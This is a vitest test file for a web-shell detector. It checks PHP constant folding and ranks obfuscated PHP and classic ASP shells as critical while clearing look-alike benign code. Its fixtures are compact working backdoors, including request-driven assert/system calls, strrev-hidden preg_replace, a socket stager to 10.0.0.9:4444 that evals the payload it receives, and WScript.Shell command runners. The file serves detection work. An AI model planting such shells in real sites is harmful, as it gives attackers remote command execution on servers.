/**
 * Forms read from split v3's held-out misses once they became tuning (split v7, issue 27),
 * written here anew: each shell beside a near miss an application writes.
 */
import { describe, expect, it } from 'vitest';
import { foldPhpConstants } from '../../src/findings/web-shell/php-constants.js';
import { isAlarm, topFinding } from '../support/top-finding.js';

const critical = (reason: RegExp) => ({
  severity: 'critical',
  reason: expect.stringMatching(reason),
});

describe('PHP constants: names trimmed, cut, spliced and picked', () => {
  it('works out trim, case and splices of constants', () => {
    expect(foldPhpConstants(`<?php $a = "\\x0Bassert"; f(trim($a));`)).toContain(`f('assert')`);
    expect(foldPhpConstants(`<?php f(strtolower('SYSTEM'));`)).toContain(`f('system')`);
    expect(foldPhpConstants(`<?php f(substr_replace(strrev('trea'), 'ss', 1, 0));`)).toContain(
      `f('assert')`,
    );
    expect(foldPhpConstants(`<?php f(str_replace('x', '', 'sxysxtem'));`)).toContain(`f('system')`);
    expect(foldPhpConstants(`<?php f(substr('xxexec', 2));`)).toContain(`f('exec')`);
  });

  it('picks a piece of a constant split, and a character of one by its place', () => {
    expect(foldPhpConstants(`<?php $s = explode('!', str_rot13('n!ff!re!nffreg'))[3];`)).toContain(
      `$s = 'assert'`,
    );
    expect(foldPhpConstants(`<?php $k = 'tsaey'; $n = $k{3} . $k{0};`)).toContain(`$n = 'et'`);
  });

  it("reads a bare word given to a decoder as the string it spells, and a variable's name called", () => {
    expect(foldPhpConstants(`<?php $a = @strrev(ecalper_gerp); $a($x);`)).toContain(
      `preg_replace($x)`,
    );
  });

  it('leaves a defined constant, in capitals, given to a decoder as it is', () => {
    const page = `<?php if (strtoupper(PHP_OS) === 'LINUX') echo base64_decode(PAYLOAD);`;
    expect(foldPhpConstants(page)).toBe(page);
  });

  it('leaves a shaped value that depends on anything else unfolded', () => {
    const page = `<?php $n = substr($row['name'], 1); f(trim($input)); $p = explode(',', $list)[0];`;
    expect(foldPhpConstants(page)).toBe(page);
  });
});

describe('split v7: PHP', () => {
  it('ranks a runner chosen by trimming a constant, given request input, critical', () => {
    const page = `<?php $b = $_POST['a']; $a = "\\x0Bassert"; call_user_func(trim($a), $b);`;
    expect(topFinding('/var/www/html/a.php', page)).toMatchObject({ severity: 'critical' });
  });

  it('ranks preg_replace with /e reached through reversed bare words critical', () => {
    const page = `<?php $a=@strrev(ecalper_gerp); $b=@strrev(edoced_46esab); echo @$a($b(L3h4L2Ug),$_POST[jc],axxa);`;
    expect(topFinding('/var/www/html/a.php', page)).toMatchObject(
      critical(/code on request input/),
    );
  });

  it('ranks a backtick run right after the open tag critical, and SQL in a string not', () => {
    expect(topFinding('/var/www/html/a.php', '<?php `$_GET[c]`; ?>')).toMatchObject(
      critical(/command on request input/),
    );
    const sql = '<?php $q = "SELECT `id` FROM `$table` WHERE a = 1"; echo $_GET["x"];';
    expect(isAlarm('/var/www/html/q.php', sql)).toBe(false);
  });

  it("ranks a runner's name completed by the request critical, and a handler's prefix not", () => {
    const shell = `<?php $aa = $_REQUEST['aa']; $bb = $_REQUEST['bb']; $cc = $aa . $bb; $dd = str_replace($aa, '', $cc); $name = "ass" . $aa; @$name($dd);`;
    expect(topFinding('/var/www/html/a.php', shell)).toMatchObject(
      critical(/name the request completes/),
    );
    const dispatch = `<?php $t = $_GET['t']; $fn = "handle_" . $t; if (function_exists($fn)) $fn();`;
    expect(isAlarm('/var/www/html/d.php', dispatch)).toBe(false);
  });

  it('ranks a runner handed a variable the page never sets (register_globals) critical', () => {
    expect(
      topFinding('/var/www/html/a.php', `<?php if ($cmd != "") print Shell_Exec($cmd); ?>`),
    ).toMatchObject(critical(/on request input/));
    // A parameter is the caller's, not the visitor's.
    const wrapper = `<?php function run($cmd) { return shell_exec($cmd); }`;
    expect(topFinding('/var/www/html/w.php', wrapper)).toMatchObject({ severity: 'medium' });
  });

  it('ranks code a socket receives, run, critical; a socket read printed is not', () => {
    const stager = `<?php $s = socket_create(AF_INET, SOCK_STREAM, SOL_TCP); socket_connect($s, '10.0.0.9', 4444);
$len = socket_read($s, 4); $b = socket_read($s, $len); eval($b);`;
    expect(topFinding('/opt/x/a.php', stager)).toMatchObject(
      critical(/running what a socket receives as code/),
    );
    const client = `<?php $s = fsockopen('mail.example.org', 25); $greeting = fgets($s); echo htmlspecialchars($greeting); eval('$n = 1;');`;
    expect(isAlarm('/opt/x/c.php', client)).toBe(false);
  });

  it("ranks PHP's COM of WScript running what the request sends critical", () => {
    const page = `<?php $cmd = $_POST['cmd']; $shell = new COM('wscript'); $exe = $shell->exec("cmd.exe /c " . $cmd);`;
    expect(topFinding('/var/www/html/a.php', page)).toMatchObject({ severity: 'critical' });
  });
});

describe('split v7: classic ASP', () => {
  it('reads an <object runat=server> of WScript.Shell by class id as the page creating it', () => {
    const page = `<object runat=server id=sh scope=page classid="clsid:72C24DD5-D70A-438B-8A42-98424B88AFB8"></object>
<% Response.Write sh.exec("cmd.exe /c " & Request("c")).StdOut.ReadAll %>`;
    expect(topFinding('/var/www/a.asp', page)).toMatchObject(
      critical(/running a program the request names/),
    );
    // A page's own object of another class, given the request, is no shell.
    const other = `<object runat=server id=ad progid="MSWC.AdRotator"></object>
<% Response.Write ad.GetAdvertisement(Request("f")) %>`;
    expect(isAlarm('/var/www/b.asp', other)).toBe(false);
  });
});

describe('split v7: a callback named through the page’s own cipher', () => {
  const cipher = `<?php
function decode($s) {
  $r = '';
  for ($i = 0; $i < strlen($s); $i++) $r .= chr(ord($s[$i]) - 3);
  return $r;
}
`;

  it('ranks a callback whose name the page deciphers, given the request, critical', () => {
    const shell = `${cipher}call_user_func_array(decode('dvvhuw'), array($_POST['a']));`;
    expect(topFinding('/var/www/html/c.php', shell)).toMatchObject(
      critical(/given a name the page deciphers with its own function \(decode/),
    );
  });

  it('leaves a callback named by a lookup of its own, and a cipher used on text', () => {
    const lookup = `<?php
function handler($name) { return 'on_' . strtolower($name); }
array_map(handler('Save'), $rows);`;
    expect(isAlarm('/var/www/html/h.php', lookup)).toBe(false);
    const caesar = `${cipher}echo htmlspecialchars(decode($_POST['secret']));`;
    expect(isAlarm('/var/www/html/p.php', caesar)).toBe(false);
  });
});
